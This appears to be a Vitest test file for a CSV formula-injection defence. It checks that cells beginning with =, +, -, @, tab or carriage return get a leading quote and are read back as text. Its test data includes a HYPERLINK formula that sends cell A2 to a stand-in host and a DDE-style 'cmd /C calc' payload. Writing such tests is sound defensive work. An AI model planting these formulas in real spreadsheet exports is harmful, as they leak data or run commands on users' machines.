/** CSV formula injection (issue 14 §8): text cells that a spreadsheet would evaluate are neutralized. */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { neutralizeCsvCell, safeCsvValue } from '../../functions/core/csv-cell.ts';
import { formatRows } from '../../functions/cli/output.ts';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A2,"ok")', '\'=HYPERLINK("http://x/?"&A2,"ok")'],
    ['+1+cmd|\' /C calc\'!A0', '\'+1+cmd|\' /C calc\'!A0'],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Viện kiểm sát = tốt', 'Viện kiểm sát = tốt'],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(neutralizeCsvCell(input)).toBe(output);
  });

  it('leaves numbers, booleans and nulls alone (a negative number is not a formula)', () => {
    expect(safeCsvValue(-5)).toBe(-5);
    expect(safeCsvValue(true)).toBe(true);
    expect(safeCsvValue(null)).toBe(null);
  });

  it('is used by the CLI’s CSV output: a hostile note is read back as text', () => {
    const note = '=HYPERLINK("http://x/?"&A2,"ok")';
    const csv = formatRows([{ unit_id: 'p63-94', value: -3, note }], ['unit_id', 'value', 'note'], 'csv');
    const [header, row] = parse(csv) as string[][];
    expect(header).toEqual(['unit_id', 'value', 'note']);
    expect(row).toEqual(['p63-94', '-3', `'${note}`]);
  });
});
